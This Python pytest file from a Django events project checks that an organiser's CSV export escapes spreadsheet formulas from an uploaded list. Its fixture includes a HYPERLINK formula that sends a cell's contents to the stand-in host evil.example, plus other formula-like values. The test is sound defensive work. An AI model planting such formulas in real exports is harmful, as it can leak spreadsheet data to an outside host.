"""The organiser's decisions CSV cannot carry a formula from an uploaded list."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from jisr.events import services
from tests.support.web import logged_in

pytestmark = pytest.mark.django_db


def test_a_name_written_as_a_formula_comes_out_as_text(event: Any, coordinator: Any) -> None:
    from tests.events.test_services import _screen_all

    content = (
        b"full_name,category,organisation\n"
        b'"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",staff,@SUM(A1)\n'
        b"+1+1 Fictif,media,-2+3\n"
    )
    services.accreditation_upload(
        acting_user=coordinator, event=event, filename="l.csv", content=content, purpose="Accr."
    )
    _screen_all()
    text = (
        logged_in(coordinator)
        .get(reverse("events:organiser_decisions", args=[event.id]) + "?format=csv")
        .content.decode("utf-8-sig")
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [(r[0], r[2]) for r in rows[1:]] == [
        ('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'@SUM(A1)"),
        ("'+1+1 Fictif", "'-2+3"),
    ]
